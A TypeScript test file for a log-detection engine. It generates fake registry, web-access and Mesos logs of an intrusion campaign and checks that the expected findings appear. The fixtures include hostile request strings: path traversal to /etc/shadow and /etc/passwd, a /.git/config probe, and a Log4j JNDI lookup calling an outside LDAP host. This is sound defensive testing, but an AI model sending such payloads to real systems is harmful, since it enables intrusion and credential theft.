// The same acts in every layout that registry and Mesos write, and under carriers: the packs find them in each. All stand in
// one case, every layout on a node of its own and by an address of its own.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LogsCase } from '../derive/logs-of.ts';

type Field = readonly [key: string, value: string | number];

const quoted = (value: string | number): string =>
  typeof value === 'string' && /[^\w./:@-]/.test(value) ? JSON.stringify(value) : String(value);
const stamp = (second: number): string => new Date(Date.UTC(2026, 10, 20, 12, 0, second)).toISOString();

interface Line {
  level: string;
  message: string;
  fields: readonly Field[];
}
/** How Distribution writes a line of its application log. */
const REGISTRY: Record<string, (second: number, line: Line) => string> = {
  text: (second, { level, message, fields }) =>
    `time="${stamp(second)}" level=${level} msg=${quoted(message)} ${fields.map(([k, v]) => `${k}=${quoted(v)}`).join(' ')}`,
  json: (second, { level, message, fields }) =>
    JSON.stringify({ ...Object.fromEntries(fields), level, msg: message, time: stamp(second) }),
  logstash: (second, { level, message, fields }) =>
    JSON.stringify({
      '@timestamp': stamp(second),
      '@version': '1',
      ...Object.fromEntries(fields),
      level,
      message,
    }),
  docker: (second, line) =>
    JSON.stringify({ log: `${REGISTRY.text!(second, line)}\n`, stream: 'stderr', time: stamp(second) }),
  cri: (second, line) => `${stamp(second).replace('Z', '000000Z')} stderr F ${REGISTRY.json!(second, line)}`,
  journal: (second, line) =>
    `Nov 20 12:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} reg-1 registry[812]: ${REGISTRY.text!(second, line)}`,
};

/** Stands for the address of a layout's intruder. */
const INTRUDER = '203.0.113.0';
const asked = (method: string, uri: string, agent = 'curl/8.5.0'): Field[] => [
  ['go.version', 'go1.19.8'],
  ['http.request.host', 'reg:5000'],
  ['http.request.id', crypto.randomUUID()],
  ['http.request.method', method],
  ['http.request.remoteaddr', `${INTRUDER}:41234`],
  ['http.request.uri', uri],
  ['http.request.useragent', agent],
];
const completed = (method: string, uri: string, status: number): Line => ({
  level: 'info',
  message: 'response completed',
  fields: [...asked(method, uri), ['http.response.duration', '4.6ms'], ['http.response.status', status]],
});
const refused = (user: string): Line => ({
  level: 'error',
  message: `error authenticating user "${user}": authentication failure`,
  fields: asked('GET', '/v2/'),
});
const DIGEST = `sha256:${'ab'.repeat(32)}`;
const USERS = ['admin', 'root', 'ci', 'deploy', 'test', 'docker', 'backup', 'oracle', 'git', 'build'];
const CAMPAIGN: Line[] = [
  ...USERS.map(refused),
  { level: 'info', message: 'authorized request', fields: asked('GET', '/v2/') },
  completed('GET', '/v2/_catalog?n=1000', 200),
  completed('PUT', '/v2/team/app/manifests/latest', 201),
  ...[0, 1, 2, 3, 4].map((i) =>
    completed('DELETE', `/v2/team/app/manifests/sha256:${String(i).repeat(64)}`, 202),
  ),
  completed('GET', '/v2/%2e%2e/%2e%2e/etc/shadow', 301),
  { level: 'warning', message: 'htpasswd is missing, provisioning with default user', fields: [] },
];
const FOUND_IN_APPLICATION_LINES = [
  'Image tag written by a client that is no container tool',
  'Images deleted from outside',
  'Many images deleted within ten minutes',
  'Many user names tried against the registry',
  'Password guessing against the registry',
  'Path traversal in requests',
  'Registry catalog or tags read from outside',
  'Registry login succeeded after many failures from the same address',
  'Registry made a user of its own with a password in the log',
];

const apache = (second: number): string =>
  `20/Nov/2026:12:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} +0000`;
const REQUESTS: [method: string, uri: string, status: number][] = [
  ['GET', '/v2/_catalog?n=1000', 200],
  ['PUT', '/v2/team/app/manifests/latest', 201],
  ...[0, 1, 2, 3, 4].map((i): [string, string, number] => [
    'DELETE',
    `/v2/team/app/manifests/sha256:${String(i).repeat(64)}`,
    202,
  ]),
  ['GET', '/v2/..%2f..%2fetc/passwd', 404],
  ['GET', '/.git/config', 404],
  ['GET', '/?x=%24%7Bjndi:ldap://198.51.100.7/a%7D', 400],
];
const FOUND_IN_ACCESS_LINES = [
  'Files with secrets asked for',
  'Image tag written by a client that is no container tool',
  'Images deleted from outside',
  'Log4j lookup in a request',
  'Many images deleted within ten minutes',
  'Path traversal in requests',
  'Registry catalog or tags read from outside',
];
const ACCESS: Record<string, (second: number, request: (typeof REQUESTS)[number]) => string> = {
  'registry/access.log': (second, [method, uri, status]) =>
    `${INTRUDER} - - [${apache(second)}] "${method} ${uri} HTTP/1.1" ${status} 20 "" "curl/8.5.0"`,
  'nginx/access.log': (second, [method, uri, status]) =>
    `${INTRUDER} - - [${apache(second)}] "${method} ${uri} HTTP/1.1" ${status} 20 "-" "curl/8.5.0" rt=0.004`,
  'nginx/access.json.log': (second, [method, uri, status]) =>
    JSON.stringify({
      time_iso8601: stamp(second),
      remote_addr: INTRUDER,
      request_method: method,
      request_uri: uri,
      status: String(status),
      body_bytes_sent: '20',
      http_user_agent: 'curl/8.5.0',
    }),
};

const glog = (level: string, second: number, place: string, text: string): string =>
  `${level}1120 12:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')}.123456 28526 ${place}] ${text}`;
const MESOS: Record<string, { path: string; line(second: number, glogLine: string): string }> = {
  glog: {
    path: 'mesos/mesos-master.m1.root.log.INFO.20261120-115959.28483',
    line: (_second, text) => text,
  },
  syslog: {
    path: 'log/mesos-master.log',
    line: (second, text) =>
      `Nov 20 12:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} m1 mesos-master[1080]: ${text}`,
  },
  journal: {
    path: 'dcos-mesos-master.service',
    line: (second, text) =>
      `2026-11-20 12:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')}: ${text}`,
  },
  docker: {
    path: 'containers/master-json.log',
    line: (second, text) => JSON.stringify({ log: `${text}\n`, stream: 'stderr', time: stamp(second) }),
  },
};
const MESOS_LINES: [level: string, place: string, text: string][] = [
  ...[1, 2, 3, 4, 5].map((): [string, string, string] => [
    'I',
    'master.cpp:9834',
    'Authentication of slave(1)@10.20.0.0:5051 was unsuccessful: Invalid credentials',
  ]),
  ['I', 'master.cpp:9829', "Successfully authenticated principal 'agent' at slave(1)@10.20.0.0:5051"],
  [
    'W',
    'master.cpp:6811',
    'Agent 2daed282-eb9b-4b57-9779-d27c1f832a00-S1 at slave(1)@10.20.0.0:5051 (a1) attempted to reregister with different IP; expected 10.20.0.32 but got 10.20.0.0; shutting it down',
  ],
  [
    'W',
    'master.cpp:3358',
    `Ignoring unregister agent message from slave(1)@${INTRUDER}:5051 because it is not the agent slave(1)@10.20.0.33:5051`,
  ],
  [
    'I',
    'http.cpp:1436',
    `HTTP POST for /master/teardown from ${INTRUDER}:48280 with User-Agent='curl/7.29.0'`,
  ],
  ['I', 'http.cpp:277', 'Processing call TEARDOWN'],
  ['I', 'quota_handler.cpp:1104', "Authorizing principal 'ANY' to update quota for role 'prod'"],
  ['I', 'logging.cpp:300', 'Setting verbose logging level to 2'],
  ...[1, 2, 3].map((i): [string, string, string] => [
    'I',
    'master.cpp:8714',
    `Marked agent 2daed282-eb9b-4b57-9779-d27c1f832a00-S${i} (a${i}) unreachable: health check timed out`,
  ]),
];
const FOUND_IN_MESOS = [
  'Log level of a Mesos process changed while it ran',
  'Mesos agent came back as another machine',
  'Mesos ignored a message from a sender that it did not expect',
  'Mesos master let an address in that it had refused before',
  'Mesos master refused an agent or a framework',
  'Mesos master refuses the same address again and again',
  'Mesos operator call by nobody',
  'Mesos operator call that starts a shell or ends workloads',
  'Mesos told to act by an address outside the private ranges',
  'Several Mesos agents lost at once',
];

/** Logs by path; `owned` makes the addresses and ids of a layout its own. */
const logs: Record<string, string[]> = {};
const owned = (line: string, number: number): string =>
  line
    .replaceAll(INTRUDER, `203.0.113.${number}`)
    .replaceAll('10.20.0.0', `10.20.0.${number}`)
    .replaceAll('d27c1f832a00', `d27c1f832a${10 + number}`);
let number = 0;
const nodes = new Map<string, string>();
function put(layout: string, path: string, lines: string[]): void {
  number++;
  const node = `reg-${number}`;
  nodes.set(layout, node);
  logs[`${node}/var/log/${path.replace('.m1.', `.${node}.`)}`] = lines.map((line) =>
    owned(line, number).replace(/ (?:m1|reg-1) /, ` ${node} `),
  );
}
for (const [layout, write] of Object.entries(REGISTRY))
  put(
    `registry ${layout}`,
    'registry/registry.log',
    CAMPAIGN.map((line, i) => write(10 + 3 * i, line)),
  );
for (const [path, write] of Object.entries(ACCESS))
  put(
    `access ${path}`,
    path,
    REQUESTS.map((request, i) => write(10 + 3 * i, request)),
  );
for (const [layout, { path, line }] of Object.entries(MESOS))
  put(
    `mesos ${layout}`,
    path,
    MESOS_LINES.map(([level, place, text], i) => line(10 + 2 * i, glog(level, 10 + 2 * i, place, text))),
  );
const PUSH = {
  events: [
    {
      id: 'e1',
      timestamp: stamp(120),
      action: 'push',
      target: {
        mediaType: 'application/vnd.docker.distribution.manifest.v2+json',
        digest: DIGEST,
        repository: 'team/app',
        tag: 'latest',
      },
      request: { id: 'r1', addr: '203.0.113.77:40646', method: 'PUT', useragent: 'curl/8.5.0' },
      actor: { name: 'ci' },
    },
  ],
};
logs['reg-77/var/log/registry/registry.log'] = USERS.map((user, i) =>
  REGISTRY.text!(10 + i, refused(user)).replaceAll(INTRUDER, '203.0.113.77'),
);
logs['reg-77/var/log/registry/notifications.jsonl'] = [JSON.stringify(PUSH)];
logs['worker-77/var/log/celery/worker.log'] = [
  `[2026-11-20 12:05:00,000: INFO/ForkPoolWorker-1] deploy.rollout[6f626224-0837-40ef-b603-eb2b0bfc35bb]: pulling team/app:latest ${DIGEST}`,
];
logs['agent-77/var/log/mesos/mesos-agent.a1.root.log.INFO.20261120-115959.28483'] = [
  glog('I', 400, 'registry_puller.cpp:308', `Pulling image 'reg:5000/team/app@${DIGEST}'`),
];

let made: LogsCase;
beforeAll(async () => {
  made = await LogsCase.of(logs);
  const { jobId } = await made.engine.api['detect.start']({});
  expect((await made.engine.job(jobId)).error).toBeNull();
}, 120_000);
afterAll(() => made?.close());

async function titlesOn(node: string | undefined): Promise<unknown[]> {
  const rows = await made.rows(
    `SELECT DISTINCT title FROM findings WHERE list_contains(nodes, '${node}') ORDER BY title`,
  );
  return rows.map((row) => row.title);
}

describe('the packs find the same acts in every layout', () => {
  it.each(Object.keys(REGISTRY))('of the registry: %s', async (layout) => {
    expect(await titlesOn(nodes.get(`registry ${layout}`))).toEqual(
      expect.arrayContaining(FOUND_IN_APPLICATION_LINES),
    );
  });

  it.each(Object.keys(ACCESS))('of access lines: %s', async (path) => {
    expect(await titlesOn(nodes.get(`access ${path}`))).toEqual(
      expect.arrayContaining(FOUND_IN_ACCESS_LINES),
    );
  });

  it.each(Object.keys(MESOS))('of Mesos: %s', async (layout) => {
    expect(await titlesOn(nodes.get(`mesos ${layout}`))).toEqual(expect.arrayContaining(FOUND_IN_MESOS));
  });

  it('from the guess to the program that runs, over registry, notifications, Celery and Mesos', async () => {
    expect(await titlesOn('worker-77')).toContain('Guessed, pushed, and run by Celery');
    expect(await titlesOn('a1')).toEqual(
      expect.arrayContaining([
        'Digest that was pushed by hand is handled by Mesos',
        'Guessed, pushed, and run by Mesos',
      ]),
    );
  });
});
